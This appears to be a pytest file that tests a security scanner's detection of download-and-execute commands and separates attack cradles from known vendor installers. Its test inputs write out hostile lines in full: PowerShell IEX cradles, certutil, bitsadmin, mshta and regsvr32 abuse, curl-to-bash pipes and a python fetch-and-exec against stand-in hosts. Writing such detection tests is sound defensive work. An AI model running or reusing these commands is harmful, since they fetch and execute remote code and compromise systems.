"""Download-and-execute: cradles and LOLBins are strong, vendor installers are dual-use."""

from __future__ import annotations

import pytest

from inspector.model import ArtifactType
from tests.analyzers.heuristics.helpers import ids, score

PS = ArtifactType.POWERSHELL
CMD = ArtifactType.CMD


@pytest.mark.parametrize(
    ("text", "language", "expected"),
    [
        ("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')", PS,
         "heur.download_execute.ps_cradle"),
        ("iwr -UseBasicParsing http://files.example/x.ps1 | iex", PS, "heur.download_execute.ps_cradle"),
        ("irm https://files.example/x.ps1 | Invoke-Expression", PS, "heur.download_execute.ps_cradle"),
        ("$s = $wc.DownloadString($u)\nInvoke-Expression $s", PS, "heur.download_execute.ps_cradle"),
        ("$b = (New-Object Net.WebClient).DownloadData($u)\n$a = [System.Reflection.Assembly]::Load($b)", PS,
         "heur.download_execute.reflective_assembly"),
        ("certutil.exe -urlcache -split -f http://203.0.113.5/a.exe a.exe", CMD,
         "heur.download_execute.certutil_urlcache"),
        ("certutil -decode p.txt p.exe", CMD, "heur.download_execute.certutil_decode"),
        ("bitsadmin /transfer j /download http://203.0.113.5/u.exe C:\\u.exe", CMD, "heur.download_execute.bitsadmin"),
        ("mshta http://203.0.113.5/a.hta", CMD, "heur.download_execute.mshta"),
        ("mshta vbscript:Execute(\"CreateObject(...)\")", CMD, "heur.download_execute.mshta"),
        ("regsvr32 /s /n /u /i:http://203.0.113.5/f.sct scrobj.dll", CMD, "heur.download_execute.regsvr32_scrobj"),
        ('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', CMD,
         "heur.download_execute.rundll32_script"),
        ("curl -s http://files.example/x.sh | bash", ArtifactType.SHELL, "heur.download_execute.shell_pipe"),
        ("wget -qO- http://203.0.113.5/x.sh | sh", ArtifactType.SHELL, "heur.download_execute.shell_pipe_ip"),
        ('bash -c "$(curl -fsSL http://files.example/i.sh)"', ArtifactType.SHELL, "heur.download_execute.shell_pipe"),
        ("wget http://203.0.113.5/b -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x &", ArtifactType.SHELL,
         "heur.download_execute.download_chmod_run"),
        ("python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.5/p').read())\"",
         ArtifactType.SHELL, "heur.download_execute.interpreter_fetch_exec"),
        ("curl -s https://pastebin.com/raw/abc -o /tmp/a", ArtifactType.SHELL, "heur.download_execute.bad_domain"),
    ],
)
def test_download_and_execute_is_detected(text: str, language: ArtifactType, expected: str) -> None:
    assert expected in ids(text, language)


def test_a_cradle_alone_is_suspicious() -> None:
    assert score("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')", PS) >= 300


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://get.docker.com | sh",
        "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
        "wget -qO- https://raw.githubusercontent.com/Azure/agent-tools/main/installer/setup.sh | sudo bash",
        "curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash",
    ],
)
def test_vendor_installers_piped_to_a_shell_are_dual_use(text: str) -> None:
    found = ids(text)
    assert "heur.download_execute.vendor_installer_pipe" in found
    assert "heur.download_execute.shell_pipe" not in found
    assert 20 <= score(text) <= 150


def test_the_official_chocolatey_install_is_dual_use() -> None:
    text = "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))"
    assert "heur.download_execute.vendor_installer_cradle" in ids(text, PS)
    assert score(text, PS) < 150


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("Invoke-WebRequest -Uri https://download.example/agent.msi -OutFile C:\\install\\agent.msi\n"
         "Start-Process msiexec -ArgumentList '/qn /i C:\\install\\agent.msi' -Wait", PS),
        ("apt-get update && apt-get install -y nginx", ArtifactType.SHELL),
        ("certutil -addstore -f Root contoso-root.cer", CMD),
        ("wget -q https://github.com/prometheus/node_exporter/releases/download/v1.7.0/ne.tar.gz -O /tmp/ne.tgz\n"
         "tar xzf /tmp/ne.tgz -C /opt && chmod +x /opt/ne/node_exporter", ArtifactType.SHELL),
    ],
)
def test_installers_score_below_the_suspicious_band(text: str, language: ArtifactType) -> None:
    assert score(text, language) < 300


@pytest.mark.parametrize(
    "text",
    [
        # anyone's account on the same code host is not the vendor
        "curl -fsSL https://raw.githubusercontent.com/some-user/tools/main/setup.sh | bash",
        # a pull request's files are served under the vendor's name but written by anyone
        "curl -fsSL https://raw.githubusercontent.com/Azure/agent-tools/refs/pull/12/head/setup.sh | bash",
        # one vendor URL does not vouch for another host on the same line
        "curl -fsSL https://raw.githubusercontent.com/Azure/x/main/a.sh https://203.0.113.5/b.sh | bash",
    ],
)
def test_a_code_host_pipe_outside_a_vendor_organisation_stays_strong(text: str) -> None:
    assert "heur.download_execute.shell_pipe" in ids(text)
